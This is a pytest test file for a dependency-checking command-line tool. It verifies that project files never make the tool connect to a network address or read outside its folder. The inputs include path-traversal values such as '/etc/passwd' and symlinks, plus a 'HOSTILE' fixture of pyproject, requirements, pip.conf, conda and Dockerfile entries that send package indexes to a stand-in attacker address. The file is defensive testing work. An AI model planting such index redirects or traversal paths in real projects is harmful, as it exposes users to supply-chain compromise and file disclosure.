"""A project is read and never obeyed: no file of it makes a command connect, or read outside of its folder."""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.conftest import Run
from tests.knowledge.own_records import own


@dataclass
class Listener:
    """A server that must hear nothing: ``met`` has who connected."""

    port: int
    met: list[object] = field(default_factory=list)

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.port}"


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = socket.create_server(("127.0.0.1", 0))
    listening = Listener(server.getsockname()[1])

    def accept() -> None:
        while True:
            try:
                connection, address = server.accept()
            except OSError:
                return
            listening.met.append(address)
            connection.close()

    threading.Thread(target=accept, daemon=True).start()
    try:
        yield listening
    finally:
        server.shutdown(socket.SHUT_RDWR)
        server.close()


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("GRADCOMPAT_CACHE", str(tmp_path / "cache"))
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "requirements.txt").write_text("acme-trainer==3.1.3\n", "utf-8")
    (tmp_path / "outside.yaml").write_text(own(), "utf-8")
    return folder


def names(folder: Path, *records: str) -> None:
    listed = ", ".join(f'"{one}"' for one in records)
    (folder / "gradcompat.toml").write_text(f"knowledge = [{listed}]\n", "utf-8")


@pytest.mark.parametrize("scheme", ["https", "http", "file"])
def test_a_project_has_no_address_fetched(here: Path, run: Run, listener: Listener, scheme: str) -> None:
    names(here, f"{scheme}://{listener.address}/acme.yaml")
    done = run("check", "requirements.txt", cwd=here)
    assert listener.met == []
    assert (done.status, done.out) == (2, "")
    assert done.err.startswith("error: `gradcompat.toml:1`: `knowledge` names an address\n\nhint: ")


@pytest.mark.parametrize(
    ("place", "wrong"),
    [
        ("../outside.yaml", "lies outside the folder of this file"),
        ("/etc/passwd", "lies outside the folder of this file"),
        ("linked.yaml", "lies outside the folder of this file"),
        ("folder/linked.yaml", "lies outside the folder of this file"),
        ("pipe", "is neither a file nor a folder"),
        ("-", "is not there"),
        ("/dev/stdin", "lies outside the folder of this file"),
        ("", "is not a path"),
    ],
)
def test_a_project_has_nothing_read_outside_of_it(here: Path, run: Run, place: str, wrong: str) -> None:
    (here / "linked.yaml").symlink_to(here.parent / "outside.yaml")
    (here / "folder").symlink_to(here.parent)
    (here.parent / "linked.yaml").write_text(own(), "utf-8")
    os.mkfifo(here / "pipe")
    names(here, place)
    done = run("check", "requirements.txt", cwd=here, stdin=own())
    assert (done.status, done.out) == (2, "")
    assert done.err.startswith(f"error: `gradcompat.toml:1`: `knowledge` names `{place}`, which {wrong}\n\nhint: ")


def test_a_folder_leads_nowhere_else(here: Path, run: Run) -> None:
    (here / "records" / "measured").mkdir(parents=True)
    (here / "records" / "linked.yaml").symlink_to(here.parent / "outside.yaml")
    names(here, "records")
    done = run("check", "requirements.txt", cwd=here)
    assert (done.status, done.out) == (2, "")
    assert done.err.startswith("error: `records/linked.yaml`: lies outside the folder of this file\n")
    (here / "records" / "linked.yaml").unlink()
    (here / "records" / "acme.yaml").write_text(own(), "utf-8")
    os.mkfifo(here / "records" / "measured" / "torch.jsonl")
    done = run("check", "requirements.txt", cwd=here)
    assert done.status == 2
    assert "torch.jsonl`: is neither a file nor a folder\n" in done.err


def test_the_user_may_name_anything(here: Path, run: Run) -> None:
    done = run("check", "requirements.txt", "--knowledge", "../outside.yaml", cwd=here)
    assert "ACME-0001" in done.out


@pytest.mark.parametrize("place", ["../proof.json", "/dev/stdin", "pipe", "linked.json"])
def test_a_proof_lies_in_the_project(here: Path, run: Run, place: str) -> None:
    os.mkfifo(here / "pipe")
    (here.parent / "proof.json").write_text("{}", "utf-8")
    (here / "linked.json").symlink_to(here.parent / "proof.json")
    (here / "gradcompat.toml").write_text(
        f'[[waivers]]\nid = "GC-0004"\nreason = "measured"\nproof = "{place}"\n', "utf-8"
    )
    done = run("check", "requirements.txt", cwd=here)
    assert (done.status, done.out) == (2, "")
    assert done.err.startswith(f"error: `gradcompat.toml:4`: `proof` of a waiver names `{place}`, which ")


HOSTILE = """\
[project]
name = "evil"
version = "1"
dependencies = ["transformers==4.49.0", "torch @ http://ADDRESS/torch-2.5.1-py3-none-any.whl"]
[[tool.uv.index]]
name = "evil"
url = "http://ADDRESS/simple"
default = true
[tool.uv]
find-links = ["http://ADDRESS/links"]
keyring-provider = "subprocess"
[tool.uv.sources]
transformers = { index = "evil" }
[[tool.poetry.source]]
name = "evil"
url = "http://ADDRESS/poetry"
[[tool.pdm.source]]
url = "http://ADDRESS/pdm"
name = "evil"
"""
FILES = {
    "pyproject.toml": HOSTILE,
    "gradcompat.toml": "[settings]\ntraining.gradient_accumulation_steps = 8\n"
    'model.architecture = ["LlavaForConditionalGeneration"]\n',
    "requirements.txt": "--index-url http://ADDRESS/pip\n--extra-index-url http://ADDRESS/more\n-f http://ADDRESS/f\n"
    "-r http://ADDRESS/other.txt\n-c http://ADDRESS/constraints.txt\ntransformers==4.49.0\n"
    "peft @ http://ADDRESS/peft-0.15.0-py3-none-any.whl\n",
    "script.py": '# /// script\n# dependencies = ["transformers==4.49.0"]\n# [[tool.uv.index]]\n'
    '# url = "http://ADDRESS/script"\n# ///\nimport transformers\n',
    "pip.conf": "[global]\nindex-url = http://ADDRESS/pip.conf\n",
    ".venv/pip.conf": "[global]\nindex-url = http://ADDRESS/venv\n",
    "environment.yml": "channels: [http://ADDRESS/conda]\ndependencies: [python=3.11, {pip: [-r http://ADDRESS/c.txt]}]\n",
    "Dockerfile": "FROM ADDRESS/image\nRUN pip install -i http://ADDRESS/docker transformers==4.49.0\n",
    "train.log": "transformers 4.49.0\nsee http://ADDRESS/log\n",
    "train.yaml": "model_name_or_path: http://ADDRESS/model\ndataset_name: x\noutput_dir: out\n"
    "per_device_train_batch_size: 1\ngradient_accumulation_steps: 8\n",
}


def hostile(folder: Path, address: str) -> None:
    for name, text in FILES.items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(text.replace("ADDRESS", address), "utf-8")


@pytest.mark.parametrize(
    "command",
    [
        "check .",
        "check . --all --output sarif=s.sarif --output cyclonedx-vex=v.json",
        "inspect .",
        "plan . --index-url INDEX",
        "fix . --dry-run --index-url INDEX",
        "constraints . --index-url INDEX",
        "plan requirements.txt",
        "plan .",
        "diagnose train.log",
        "explain GC-0004",
        "waive GC-0004 requirements.txt --reason x --dry-run",
        "knowledge export --format renovate",
    ],
)
def test_no_command_connects_for_a_project(
    here: Path, run: Run, listener: Listener, tmp_path: Path, command: str
) -> None:
    hostile(here, listener.address)
    (tmp_path / "index").mkdir()
    home = {"HOME": str(tmp_path / "home"), "PIP_INDEX_URL": (tmp_path / "index").as_uri(), "NO_PROXY": "127.0.0.1"}
    done = run(*command.replace("INDEX", (tmp_path / "index").as_uri()).split(), cwd=here, env=home)
    assert listener.met == [], done.err
    assert done.status in (0, 1, 2, 3)
    if command.startswith(("plan", "fix", "constraints")):
        (note,) = [line for line in done.err.splitlines() if line.startswith("note: the project names ")]
        assert f"`http://{listener.address}/simple`" in note
        assert "and for 1 of its packages no index is queried: `--project-index` or `--index-url` asks it" in note


def test_the_user_may_have_the_index_of_a_project_asked(
    here: Path, run: Run, listener: Listener, tmp_path: Path
) -> None:
    hostile(here, listener.address)
    run("plan", "requirements.txt", "--project-index", cwd=here, env={"HOME": str(tmp_path), "NO_PROXY": "127.0.0.1"})
    assert listener.met != []
